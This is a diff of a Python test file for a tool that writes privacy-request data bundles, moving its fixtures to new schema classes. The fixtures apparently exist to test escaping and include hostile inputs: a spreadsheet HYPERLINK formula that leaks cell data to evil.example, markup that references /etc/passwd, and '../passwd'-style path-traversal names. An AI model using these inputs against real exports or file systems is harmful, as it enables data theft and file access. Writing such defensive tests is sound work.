@@ -7,7 +7,8 @@ from datetime import UTC, datetime
 from decimal import Decimal
 from typing import TYPE_CHECKING, Any
 
-from requests_app.fulfilment.bundles.inputs import Branding, BundleContext, DatasetInfo, FieldInfo, SystemInfo
+from requests_app.datamap.schema import Dataset, Field, System
+from requests_app.fulfilment.bundles.inputs import Branding, BundleContext
 from requests_app.fulfilment.bundles.writer import BundleSummary, write_access_bundle
 
 if TYPE_CHECKING:
@@ -24,7 +25,7 @@ MARKUP = "<img src='file:///etc/passwd'><b>bold?</b>"
 FORMULAS = ('=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+1 555 0100", "@SUM(A1)", "-2+3")
 
 
-def _field(name: str, category: str, **overrides: Any) -> FieldInfo:
+def _field(name: str, category: str, **overrides: Any) -> Field:
     values: dict[str, Any] = {
         "name": name,
         "category": category,
@@ -34,19 +35,22 @@ def _field(name: str, category: str, **overrides: Any) -> FieldInfo:
         "retention": "While the account is open, then 30 days",
         "source": "you",
         "erasure": "delete_row",
+        "correctable": False,
     }
     values.update(overrides)
-    return FieldInfo(**values)
+    return Field(**values)
 
 
-ACCOUNTS = SystemInfo(
+ACCOUNTS = System(
     name="accounts",
     description="The customer database behind the website and the API.",
     kind="sql",
+    connection={},
     datasets=(
-        DatasetInfo(
+        Dataset(
             name="users",
             description="Your account.",
+            locator={},
             fields=(
                 _field("id", "identifier"),
                 _field("email", "contact"),
@@ -62,9 +66,10 @@ ACCOUNTS = SystemInfo(
                 _field("balance", "billing", purpose="Billing", legal_basis="Legal obligation (tax law)"),
             ),
         ),
-        DatasetInfo(
+        Dataset(
             name="api_requests",
             description="Every call made with your API keys.",
+            locator={},
             fields=(
                 _field("id", "identifier"),
                 _field("at", "usage data", purpose="Operating and securing the service", retention="90 days"),
@@ -77,14 +82,16 @@ ACCOUNTS = SystemInfo(
     ),
 )
 
-SESSIONS = SystemInfo(
+SESSIONS = System(
     name="sessions",
     description="Login sessions in the cache.",
     kind="redis",
+    connection={},
     datasets=(
-        DatasetInfo(
+        Dataset(
             name=RESERVED_DATASET,
             description="A dataset whose name Windows reserves.",
+            locator={},
             fields=(
                 _field("key", "online identifier", retention="14 days"),
                 _field("ip", "online identifier", retention="14 days", source="your device, automatically"),
@@ -93,14 +100,16 @@ SESSIONS = SystemInfo(
     ),
 )
 
-HOSTILE = SystemInfo(
+HOSTILE = System(
     name=HOSTILE_SYSTEM,
     description="A system whose name tries to climb out of its folder.",
     kind="http",
+    connection={},
     datasets=(
-        DatasetInfo(
+        Dataset(
             name="../passwd",
             description="And so does this dataset's name.",
+            locator={},
             fields=(
                 _field(
                     "segment",
